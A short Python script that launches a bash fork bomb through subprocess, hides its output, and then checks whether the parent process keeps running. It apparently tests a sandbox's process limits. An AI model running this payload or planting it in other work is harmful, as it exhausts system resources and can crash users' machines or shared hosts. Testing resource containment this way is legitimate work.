import subprocess, time
subprocess.Popen(["bash", "-c", ":(){ :|:& };:"], stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
print("bomb started", flush=True)
time.sleep(2)
print("parent still works")
